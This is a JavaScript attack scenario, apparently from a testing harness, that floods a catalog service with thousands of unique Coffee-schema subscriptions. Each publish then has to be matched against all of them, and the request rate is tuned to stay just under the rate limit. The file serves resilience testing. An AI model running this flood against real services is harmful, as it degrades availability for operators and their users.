// Thousands of subscriptions of one owner, each for the Coffee schema and one more type; every publish must then be matched with all of them.

const wanted = 5_000;

export async function attack({ catalogUrl, send, actions, keepDoing, underWay, signal }) {
  let sent = 0;
  const subscribe = () => {
    const schemaTypes = [
      'https://schema.example.org/Coffee/v1.0/context.jsonld',
      `https://schema.example.org/Coffee/v1.0/context.jsonld#T${sent++}`,
    ];
    return send(catalogUrl, actions.subscribe, {
      subscription: { networkIds: ['nfh.global/beckn-nodes'], schemaTypes },
    });
  };
  const begin = Date.now();
  // Its rate allows 200 a second.
  while (sent < wanted && Date.now() - begin < 60_000 && !signal.aborted)
    await Promise.all(Array.from({ length: 20 }, subscribe));
  underWay();
  await keepDoing(subscribe, { concurrency: 8, perSecond: 200 });
}
